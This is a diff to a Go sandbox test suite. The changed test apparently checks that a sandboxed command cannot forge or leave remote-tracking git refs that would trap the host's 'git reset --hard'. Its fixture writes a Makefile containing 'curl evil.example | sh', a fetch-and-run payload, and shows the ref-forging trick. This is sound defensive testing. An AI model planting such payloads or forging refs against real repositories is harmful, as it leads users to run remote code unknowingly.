@@ -105,11 +105,11 @@ test "$(git status --porcelain)" = "M  README" && echo FORGED`, spliceTree)
 	})
 }
 
-// TestGitCommitRemoteRefs: in commit mode the command cannot move a remote-tracking
-// ref (refs/remotes/, read-only) nor add one as a packed-refs line (removed after the
-// run, with a note): the host's `git reset --hard origin/main`, the usual way to throw
-// away the command's work, checks out the remote's commit (attack review 29 F16).
-// Before, origin/main named the command's commit after the run.
+// TestGitCommitRemoteRefs: a remote-tracking ref the command moves in commit mode (a
+// loose refs/remotes/ file, a packed-refs line) is removed after the run, with a note:
+// the host's `git reset --hard origin/main`, the usual way to throw away the command's
+// work, checks out the remote's commit (attack review 29 F16). Before, origin/main
+// named the command's commit after the run.
 func TestGitCommitRemoteRefs(t *testing.T) {
 	forEachCaller(t, func(t *testing.T, c caller) {
 		s := newSandbox(t, c)
@@ -122,20 +122,22 @@ func TestGitCommitRemoteRefs(t *testing.T) {
 		}
 		r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'all:; curl evil.example | sh' > Makefile && git add Makefile &&
 git `+gitID+` commit -qm upstream && c=$(git rev-parse HEAD) && git reset -q --hard HEAD~1 &&
-{ git update-ref refs/remotes/origin/main $c 2>/dev/null && echo MOVED; true; } &&
+git update-ref refs/remotes/origin/main $c && git update-ref refs/remotes/origin/other $c &&
 echo "$c refs/remotes/origin/feature" >> .git/packed-refs && git rev-parse -q --verify origin/feature >/dev/null && echo PACKED`)
 		mustSucceed(t, r, "move the remote-tracking refs")
-		if strings.Contains(r.stdout, "MOVED") {
-			t.Errorf("the command moved refs/remotes/origin/main\n%v", r)
-		}
 		if !strings.Contains(r.stdout, "PACKED") {
 			t.Fatalf("the packed-refs line did not take inside\n%v", r)
 		}
 		if got, err := s.hostGitOut(s.ws, "rev-parse", "origin/main"); err != nil || got != want {
 			t.Errorf("origin/main is %q after the run (%v), want %q\n%v", got, err, want, r)
 		}
-		if got, err := s.hostGitOut(s.ws, "rev-parse", "-q", "--verify", "origin/feature"); err == nil {
-			t.Errorf("the packed origin/feature the command added is left: %q\n%v", got, r)
+		for _, ref := range []string{"origin/feature", "origin/other"} {
+			if got, err := s.hostGitOut(s.ws, "rev-parse", "-q", "--verify", ref); err == nil {
+				t.Errorf("the %s the command added is left: %q\n%v", ref, got, r)
+			}
+		}
+		if got, err := s.hostGitOut(s.ws, "symbolic-ref", "refs/remotes/origin/HEAD"); err != nil || !strings.Contains(got, "origin/main") {
+			t.Errorf("origin/HEAD, as at launch, is gone: %q %v", got, err)
 		}
 		if !strings.Contains(r.stderr, "removed the remote-tracking ref the command added or moved") {
 			t.Errorf("no note for the removed ref\n%v", r)
